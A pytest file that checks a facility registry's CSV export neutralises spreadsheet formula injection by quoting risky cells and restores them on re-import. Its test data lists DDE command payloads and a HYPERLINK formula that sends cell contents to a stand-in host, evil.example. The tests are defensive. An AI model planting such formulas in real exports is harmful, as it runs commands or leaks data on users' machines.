"""CSV formula injection: registry exports neutralise formula cells; imports undo it."""

from __future__ import annotations

import csv

import pandas as pd
import pytest

from geo._csv import FORMULA_PREFIXES, neutralise_formula, neutralise_frame
from geo.registry import create_facility, export_facilities, import_facilities

HOSTILE = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")",
    "+84 912 345 678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]


@pytest.mark.parametrize("value", [*HOSTILE, "\tTAB", "\rCR"])
def test_formula_cells_get_a_quote(value):
    assert neutralise_formula(value) == "'" + value


@pytest.mark.parametrize("value", ["Trung tâm", "", "'=already", 5, -5, 1.5, None, "a=b"])
def test_other_cells_are_left_alone(value):
    assert neutralise_formula(value) == value


def test_frame_neutralises_text_columns_only():
    df = pd.DataFrame({"name": ["=1+1", "ok"], "capacity": [-5, 3], "=col": ["x", "y"]})
    out = neutralise_frame(df)
    assert list(out["name"]) == ["'=1+1", "ok"] and list(out["capacity"]) == [-5, 3]
    assert list(out.columns) == ["name", "capacity", "'=col"]


def test_registry_export_is_safe_and_round_trips(store_copy, tmp_path):
    for k, name in enumerate(HOSTILE):
        create_facility(store_copy, {"name": name, "kind": "shelter", "lon": 108.99 + k * 0.001,
                                     "lat": 11.57, "source": name, "capacity_note": name})
    out = export_facilities(store_copy, tmp_path / "registry.csv")
    with open(out, encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    cells = [c for r in rows for c in r]
    assert not [c for c in cells if c.startswith(FORMULA_PREFIXES)]
    names = {r[rows[0].index("name")] for r in rows[1:]}
    assert {"'" + n for n in HOSTILE} <= names
    # the export re-imports unchanged: the quote is removed on the way in
    report = import_facilities(store_copy, out)
    assert report["inserted"] == report["updated"] == 0
